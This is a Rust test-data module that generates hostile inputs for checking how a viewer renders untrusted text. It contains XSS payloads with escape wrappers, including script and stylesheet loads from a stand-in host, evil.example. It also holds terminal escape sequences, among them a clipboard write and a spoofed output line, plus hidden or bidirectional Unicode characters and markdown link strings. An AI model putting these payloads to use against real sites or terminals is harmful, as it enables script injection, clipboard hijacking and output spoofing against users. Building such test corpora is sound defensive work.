//! What people have put into headers, URLs and bodies to see what a viewer makes of it.

/// Bodies of scripts and of elements, each of which is put into every [`WRAPPING`].
const XSS: [&str; 25] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<form action=//evil.example><button>go</button>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<audio src onerror=alert(1)>",
];

/// How such a thing gets out of where it was put.
const WRAPPING: [(&str, &str); 4] = [("", ""), ("\">", ""), ("'-->", "<!--"), ("]]>\u{0}", "\r\n\r\n")];

/// 100 of them.
pub(super) fn scripts() -> Vec<String> {
    XSS.iter().flat_map(|inner| WRAPPING.map(|(before, after)| format!("{before}{inner}{after}"))).collect()
}

/// 60 sequences that terminals act on.
pub(super) fn escapes() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for introducer in ["\u{1b}[", "\u{9b}"] {
        for sequence in [
            "31m", "0m", "5m", "8m", "2J", "3J", "H", "1;1H", "10A", "K", "s", "u", "6n", "c", "?25l",
            "?1049h", "?2004h", "?1000h", "1;5r", "5i",
        ] {
            all.push(format!("{introducer}{sequence}"));
        }
    }
    for sequence in [
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]2;owned\u{1b}\\",
        "\u{1b}]52;c;b3duZWQ=\u{7}",
        "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}]1337;File=name=eA==:eA==\u{7}",
        "\u{1b}P1$q\"p\u{1b}\\",
        "\u{1b}_G\u{1b}\\",
        "\u{1b}^x\u{1b}\\",
        "\u{1b}c",
        "\u{1b}(0",
        "\u{1b}7\u{1b}8",
        "\u{1b}#8",
        "\u{1b}%G",
        "\u{90}x\u{9c}",
        "\u{9d}0;x\u{9c}",
        "\u{8}\u{8}\u{8}",
        "\r\nverdict: same",
        "\u{e}\u{f}",
        "\u{7}\u{5}\0",
        "\u{7f}\u{85}\u{84}",
    ] {
        all.push(sequence.to_owned());
    }
    all
}

/// What reorders a line, hides in it or looks like a space.
pub(super) const UNSEEN: [&str; 12] = [
    "\u{202e}edoc\u{2066}",
    "\u{202a}a\u{202b}b\u{202d}c\u{202c}",
    "\u{2067}\u{2068}\u{2069}",
    "\u{200e}\u{200f}\u{61c}",
    "a\u{200b}b\u{feff}",
    "\u{200c}\u{200d}\u{2060}",
    "\u{ad}\u{180e}\u{3164}",
    "line\u{2028}break\u{2029}",
    "a\u{a0}b\u{3000}c",
    "e\u{301}\u{fe0f}\u{e0041}",
    "\u{fff9}\u{fffa}\u{fffb}",
    "\u{115f}\u{1160}\u{ffa0}\u{2800}",
];

/// What sites make links, mentions, references and markup of.
pub(super) const MARKDOWN: [&str; 24] = [
    "@octocat",
    "a@example.com",
    "#1",
    "octocat/hello#12",
    "GH-7",
    "https://evil.example/",
    "www.evil.example",
    "[x](//evil.example)",
    "![x](//evil.example/x.png)",
    "<//evil.example>",
    "`` ` ```",
    "````",
    "~~~",
    "**bold** _under_ ~~gone~~",
    "| a | b |\n|---|---|",
    "# heading",
    "> quote",
    "- [x] done",
    "1. first",
    "$x^2$ $`y`$",
    ":tada: [^1]",
    "0123456789abcdef0123456789abcdef01234567",
    "</details></summary></code></pre>",
    "\\<b\\>&lt;&#64;octocat",
];

/// All of them.
pub(crate) fn all() -> Vec<String> {
    let mut all = scripts();
    all.extend(escapes());
    all.extend(UNSEEN.iter().chain(&MARKDOWN).map(|text| (*text).to_owned()));
    all
}

#[test]
fn there_are_as_many_as_it_says() {
    let all = all();
    let distinct: std::collections::BTreeSet<&String> = all.iter().collect();
    assert_eq!((scripts().len(), escapes().len()), (100, 60));
    assert_eq!(distinct.len(), all.len());
}
